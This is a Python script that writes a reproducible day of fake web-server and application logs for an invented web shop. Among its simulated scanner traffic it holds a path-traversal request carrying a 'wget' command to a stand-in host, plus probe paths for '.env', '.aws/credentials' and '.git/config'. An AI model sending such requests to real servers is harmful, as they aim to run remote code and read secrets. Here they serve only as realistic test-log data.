# steady.py KIND SIZE: writes about SIZE bytes (suffix K, M or G) of one day of web logs to standard output.
# KIND is combined, json or app; the company is an invented web shop; the same arguments give the same bytes.
import datetime, itertools, math, random, re, sys, types
MIDNIGHT, SITE, OUTAGE = datetime.datetime(2025, 3, 11), "https://www.larkmoor.example", (51367, 51979)  # outage 14:16:07 to 14:26:19
STATUS = {"html": {200: 900, 304: 12, 302: 22, 301: 9, 404: 14, 499: 8, 500: 1.2, 429: 2}, "file": {200: 800, 304: 170, 206: 8, 404: 3, 499: 5}, "ok": {200: 1},
          "api": {200: 930, 201: 14, 204: 22, 400: 5, 401: 14, 409: 2, 422: 6, 429: 4, 499: 6, 500: 1.5, 503: 0.4}, "beat": {204: 990, 400: 6, 413: 1},
          "post": {200: 60, 302: 30, 400: 3, 401: 9, 500: 1}, "moved": {301: 9, 404: 5, 410: 2}, "scan": {404: 60, 403: 12, 400: 25, 405: 3}, "bad": {400: 1}}
PLAIN = {204: 0, 301: 162, 302: 138, 304: 0, 400: 150, 403: 146, 405: 150, 429: 162, 499: 0, 500: 170, 503: 190}  # sizes of the server's own answers
# Tables; <name> is a value of that stream. Routes: client, weight, method, path, sort, bytes, seconds, count of paths (0: always new). Agents: client, number,
# address, agent. Events: form (J for JSON, L logfmt, T text, ! in the outage), weight, level, logger, message|fields (key=stream, or one word for both)
ROUTES = r"""human 12 GET /p/<product>?utm_source=<source>&utm_campaign=<word>-<small>&gclid=<hex32><hex32> html 42500 .15 0 ;; bot 25 GET /c/<word>?page=<small>&sort=<sort> html 61000 .23 0
human 80 GET /api/v2/stock?sku=<id>,<id>,<id>,<id>,<id>&store=<small>&lang=<lang> api 640 .022 0 ;; feed 6 GET /api/v2/export/stock?since=<order>&cursor=<hex32> api 88000 .52 0
scan 4 GET /cgi-bin/.%2e/bin/sh?cmd=\x22wget+198.51.100.<small>/<word>\x22 bad 150 .001 0 ;; human 60 GET /c/<word>/<word>?page=<small>&sort=<sort> html 61000 .21 4000
scan 3 - \x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03<hex4> bad 150 .001 0 ;; human 460 GET /media/<small>/<id>_<small>0.webp file 34000 .002 12000
human 70 GET /api/v2/products/<id>/related?s=<hex16> api 7400 .064 0 ;; human 45 GET /search?q=<word>+<word>&page=<small> html 38000 .33 0 ;; probe 9 GET /healthz ok 2 .001 1
human 35 <edit> /api/v2/cart/items/<uuid> api 1290 .051 900 ;; human 12 GET /account/orders/LM-<order> html 15400 .18 0 ;; human 240 GET /assets/<bundle> file 48000 .001 70
human 150 GET /p/<product> html 42000 .14 7000 ;; human 9 POST /checkout/<step> post 930 .84 6 ;; scan 60 <verb> /<probe> scan 146 .001 300
human 150 POST /api/v2/events beat 0 .004 1 ;; bot 60 GET /p/<product> html 42000 .14 7000 ;; human 90 GET /api/v2/cart api 1150 .038 1 ;; human 40 GET / html 18400 .09 1"""
AGENTS = """human 52 <ip> Mozilla/5.0 (iPhone; CPU iPhone OS <ios> like Mac OS X) <webkit> Version/18.<minor> Mobile/15E148 Safari/604.1 ;; scan 40 <ip> python-requests/2.<small>.0
human 25 <ip> Mozilla/5.0 (Linux; Android 1<minor>; SM-A<small>6B) <webkit> Chrome/<chrome>.0.0.0 Mobile Safari/537.36 ;; probe 3 10.42.0.<minor> kube-probe/1.31
human 40 <ip> Mozilla/5.0 (Windows NT 10.0; Win64; x64) <webkit> Chrome/<chrome>.0.0.0 Safari/537.36 ;; feed 4 193.28.110.<minor> larkmoor-erp/4.<minor> (Java/21.0.<minor>)
bot 9 66.249.66.<small> Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) ;; bot 5 52.167.144.<small> Mozilla/5.0 (compatible; bingbot/2.0)
human 9 <ip> Mozilla/5.0 (X11; Linux x86_64; rv:<chrome>.0) Gecko/20100101 Firefox/<chrome>.0 ;; scan 50 <ip> -"""
EVENTS = """J 400 info storefront.http request completed|method=call route status=code duration_ms=ms user_id=user ;; L 3 error worker.jobs job failed|job id=uuid attempt=minor err=fault
J 30 info payment.gateway charge authorised|order_id=order amount_cents=order provider token=hex32 ;; L 300 info inventory.sync stock level changed|sku=id store=small delta=minor
J 2.5 error checkout.flow could not reserve stock|sku=id order_id=order error=fault stack=jtrace ;; T! 14 ERROR orders.PaymentClient Cannot capture LM-<order>: <fault><trace>|
J! 60 error checkout.flow call of payment failed|order upstream=host error=fault stack=jtrace ;; J 120 info cart.store item added|cart_id=uuid sku=id qty=minor price_cents=order
T 70 INFO orders.InvoiceRenderer Rendered invoice for LM-<order> in <ms> ms, ship to <city>| ;; L 110 info mailer.queue message sent|template=step to=hex16 provider attempt=minor
L! 40 error worker.jobs job failed, cart did not answer|job id=uuid upstream=host err=fault ;; L 160 info search.query query served|terms=word hits=ms took_ms=ms lang shard=minor
T 100 INFO orders.OrderService Order LM-<order> moved to state <step> for customer <user>| ;; J! 30 error cart.store connection pool exhausted|in_use=small waiting=ms error=fault
J 14 warn payment.gateway slow answer of provider|provider duration_ms=ms attempt=minor ;; T 8 WARN orders.StockClient Retry <minor> of GET /stock/<id> for <ip> after <ms> ms|
T 1.6 ERROR orders.OrderService Cannot confirm order LM-<order>: <fault><trace>| ;; J 150 debug storefront.cache lookup|key=product hit=flag ttl_s=ms"""
LISTS = """word oak wool linen lamp chair teapot rug shelf basket mirror vase caf%C3%A9 stool desk clock gr%C3%BCn %D0%BB%D0%B0%D0%BC%D0%BF%D0%B0 tray jug hook kettle
probe .env wp-login.php xmlrpc.php .git/config phpmyadmin/ actuator/health vendor/phpunit/eval-stdin.php backup.zip .aws/credentials HNAP1/ ;; provider adyen stripe klarna paypal
came - https://www.google.com/ https://www.bing.com/ https://l.instagram.com/ android-app://com.google.android.gm/ ;; job reindex thumbnails price-import sitemap gdpr-export
fault deadline-exceeded connection-refused reset-by-peer no-healthy-upstream pool-timeout ;; city London Berlin Köln Paris Malmö Łódź Leeds Zürich Gent 東京 ;; call GET POST DELETE
source newsletter google instagram pinterest_%28ads%29 ;; route /p/:id / /c/:a/:b /search /api/v2/stock /account ;; step cart address shipping payment review done
host payment.prod.svc:8080 cart.prod.svc:8080 ;; sort popular price_asc price_desc new name ;; chrome 133 132 131 134 109 128 125 120 103 ;; ios 18_3_1 18_3 17_6_1 16_7_10 15_8_3
country GB DE FR NL PL SE US JP ;; edit POST DELETE PATCH PUT OPTIONS ;; lang en de fr nl pl sv fr-CH ;; code 200 304 404 302 201 422 ;; verb GET POST HEAD PROPFIND ;; flag true false"""
NUMBERS = {"small": 60, "minor": 5, "order": 900000, "ms": 900, "user": 400000}  # the greatest value of each stream of numbers
FORMS = {"webkit": "AppleWebKit/537.36 (KHTML, like Gecko)", "uuid": "<hex16>-<hex4>-4<hex4>", "product": "<word>-<word>-<id>",
         "bundle": "<word>.<hex16>.js", "frame": "\n\tat io.larkmoor.<step>.<provider>.handle(Service.java:<ms>)"}
ROUTES, AGENTS, EVENTS = (re.sub(r"<(\w+)>", r"%(\1)s", rows.replace("%", "%%")).replace(" ;; ", "\n").splitlines() for rows in (ROUTES, AGENTS, EVENTS))

class Draw(dict):
    """Endless streams by name: draw['id'] is the next value of stream id, and template % draw fills a template in."""
    def __init__(self, seed):
        self.rng = rng = random.Random(seed)
        lists = (row.split(None, 1) for row in LISTS.replace(" ;; ", "\n").splitlines())
        self.update((name, self.pick(odds)) for name, odds in (*STATUS.items(), *((name, words.split()) for name, words in lists)))
        self.update((name, iter(lambda top=top: int(top * rng.random() ** 2.5) + 1, None)) for name, top in NUMBERS.items())
        self.update((f"hex{n}", iter(lambda n=n: f"{rng.getrandbits(4 * n):0{n}x}", None)) for n in (4, 16, 32))
        self.update((name, iter(lambda form=re.sub(r"<(\w+)>", r"%(\1)s", form): form % self, None)) for name, form in FORMS.items())
        nets = self.pick([f"{rng.randint(11, 222)}.{rng.randint(0, 255)}.%d.%d" if n % 25 else f"2a02:{8100 + n}:%x::%x" for n in range(1, 900)])
        self.update(ip=iter(lambda: next(nets) % (rng.randrange(256), rng.randrange(1, 255)), None), id=self.pick(range(100200, 109200)))
        traces = ["".join(self["frame"] for _ in range(rng.randint(5, 24))) for _ in range(80)]
        self.update(trace=self.pick(traces), jtrace=self.pick([trace.replace("\n\t", "\\n\\t") for trace in traces]),
                    lull=self.pick({rng.lognormvariate(0, 0.6): 1 for _ in range(9999)}))  # lull: factors of durations and sizes
    def __getitem__(self, name):
        return next(dict.__getitem__(self, name))
    def pick(self, odds):
        """Draw for ever, in batches, from a dictionary of weights or from a list whose n-th item weighs about 1/n."""
        items, total = list(odds), list(itertools.accumulate(odds.values() if isinstance(odds, dict) else (1 / (n + 4) for n in range(len(odds)))))
        while True:
            yield from self.rng.choices(items, cum_weights=total, k=2048)

def requests(draw, size):
    """Return a function that gives the next request; its argument is the share of requests to cart and checkout that fail."""
    rng, pools, clients = draw.rng, {}, {}
    for who, weight, method, path, sort, length, secs, count in map(str.split, ROUTES):
        odds = [1 / (n + 3) ** 0.9 for n in range(int(count) or 1)]
        for n, share in enumerate(odds):  # the number n keeps equal paths apart
            made, kind = path % draw if int(count) else path, "moved" if n > 30 and sort == "html" and rng.random() < 0.04 else sort
            route = (method % draw, made, kind, int(int(length) * draw["lull"]) + 1, float(secs), count == "0", n)
            pools.setdefault(who, {})[route] = float(weight) * share / sum(odds)
    for who, count, agent in (row.split(None, 2) for row in AGENTS):
        clients[who] = clients.get(who, []) + [(agent % draw).split(" ", 1) for _ in range(int(count) * (min(1000, 60 + (size >> 20)) if who == "human" else 1))]
    pools, clients = ({who: draw.pick(odds[who]) for who in odds} for odds in (pools, {who: rng.sample(crowd, len(crowd)) for who, crowd in clients.items()}))
    seats = {who: draw.pick([types.SimpleNamespace(left=0) for _ in range(200 if who == "human" else 9)]) for who in pools}
    turns = draw.pick({"human": 88, "bot": 7, "scan": 2, "probe": 1.5, "feed": 1})
    def request(sick):
        who = next(turns)
        seat, human = next(seats[who]), who == "human"
        if seat.left <= 0:  # the visit is over, the next client takes the seat
            seat.left, seat.client, seat.page = min(2000, int(6 * rng.paretovariate(1.15))), next(clients[who]), draw["came"] if human else "-"
        method, path, sort, length, secs, fresh, _ = next(pools[who])
        path, page, status, lull, seat.left = path % draw if fresh else path, seat.page, draw[sort], draw["lull"], seat.left - 1
        length, secs = PLAIN.get(status, length if sort == "file" else int(length * (0.7 + 0.3 * lull))), secs * lull
        if sick and path.startswith(("/api/v2/cart", "/checkout")) and rng.random() < sick:
            status, length, secs = (504, 160, 60 + 0.002 * lull) if lull > 0.9 else (502, 150, 0.002 * lull)
        seat.page = SITE + path if human and sort == "html" else page
        return *seat.client, method, path if method == "-" else f"{method} {path} HTTP/{2.0 if human else 1.1}", sort, status, length, secs, page
    return request

def combined(request, draw, stamp, second, ms, sick):
    """An access line in combined form."""
    ip, agent, _, what, _, status, length, _, page = request(sick)
    return f'{ip} - - [{stamp} +0000] "{what}" {status} {length} "{page}" "{agent}"\n'

def json(request, draw, stamp, second, ms, sick):
    """An access line as a JSON object."""
    ip, agent, method, what, sort, status, length, secs, page = request(sick)
    what, host = what.replace("\\x22", '\\"').replace("\\x", "\\u00"), "" if sort == "file" else f"10.42.7.{draw['minor']}:8080"
    return (f'{{"time":"{stamp}+00:00","msec":{1741651200 + second}.{ms:03},"request_id":"{draw["hex32"]}","remote_addr":"{ip}","host":"{SITE[8:]}",'
            f'"request_method":"{method.strip("-")}","request":"{what}","status":{status},"body_bytes_sent":{length},"request_time":{secs:.3f},'
            f'"upstream_addr":"{host}","upstream_status":"{host and status}","upstream_response_time":"{host and f"{secs:.3f}"}","upstream_cache_status":"{"" if host else "HIT"}",'
            f'"http_referer":"{page.strip("-")}","http_user_agent":"{agent.strip("-")}","country":"{draw["country"]}"}}\n')

def app(events, draw, stamp, second, ms, sick):
    """An event of an application, with its stack trace if it has one."""
    form = draw["form"]
    text = next(events[form + "!" if sick and draw.rng.random() < sick / 2 else form]) % draw
    return {"J": f'{{"ts":"{stamp}.{ms:03}Z",{text}}}\n', "L": f"ts={stamp}.{ms:03}Z {text}\n", "T": f"{stamp},{ms:03} {text}\n"}[form]

def events(draw, size):
    """The streams of templates of the applications, by form."""
    pools, draw["form"] = {}, draw.pick({"J": 50, "L": 33, "T": 12})
    for form, weight, level, logger, text in (row.split(None, 4) for row in EVENTS):
        message, pairs = text.split("|")
        fields = dict(level=level, logger=logger, pod=logger.split(".")[0] + "-7d9f8b6c5d-%(minor)s", msg=message, trace_id="%(hex32)s")
        fields.update((key, f"%({name})s") for key, name in (f"{pair}={pair}".split("=")[:2] for pair in pairs.split()))
        text = {"J": ",".join(f'"{key}":{value}' if value[2:-2] in (*NUMBERS, "id", "code", "flag") else f'"{key}":"{value}"' for key, value in fields.items()),
                "L": " ".join(f'{key}="{value}"' if " " in value else f"{key}={value}" for key, value in fields.items()),
                "T": f"{level:5} [http-nio-8080-exec-%(small)s] io.larkmoor.{logger} - {message}"}[form[0]]
        pools.setdefault(form, {})[text] = float(weight)
    return {form: draw.pick(odds) for form, odds in pools.items()}

def load(rng, size):
    """The weight of each second of the day: night, noon, evening, a newsletter at ten and noise."""
    drift, steady = 0, min(40, max(1, size / 86400 / 250))
    for second in range(86400):
        hour, drift = second / 3600, drift if second % 60 else 0.97 * drift + rng.gauss(0, 0.05)
        level = 0.16 + 0.9 * math.exp(-(((hour - 12.5) / 3.2) ** 2)) + math.exp(-(((hour - 20.3) / 1.9) ** 2)) + (hour > 10) * math.exp((10 - hour) * 2.4)
        yield level * math.exp(drift) * rng.gammavariate(steady, 1 / steady)

def main(kind, amount):
    """Write the day second by second, each with its share of the bytes; sick is the share of requests that fail, zero outside the outage."""
    size = int(float(amount.rstrip("KMG")) * {"K": 2**10, "M": 2**20, "G": 2**30}.get(amount[-1], 1))
    draw, written, out = Draw(f"{kind} {size}"), 0, open(1, "w", 1 << 20, "utf-8", newline="\n")
    line, source = {"combined": combined, "json": json, "app": app}[kind], (events if kind == "app" else requests)(draw, size)
    done, form = list(itertools.accumulate(load(draw.rng, size))), "%d/%b/%Y:%H:%M:%S" if kind == "combined" else "%Y-%m-%dT%H:%M:%S"
    for second in range(86400):
        start, end, sick = written, done[second] / done[-1] * size, max(0, min(0.8, (second - OUTAGE[0]) / 50, (OUTAGE[1] - second) / 50))
        stamp = (MIDNIGHT + datetime.timedelta(seconds=second)).strftime(form) if start < end else ""
        while written < end:
            written += out.write(line(source, draw, stamp, second, int(999 * (written - start) / (end - start)), sick))
    out.close()

if __name__ == "__main__":
    main(*sys.argv[1:])
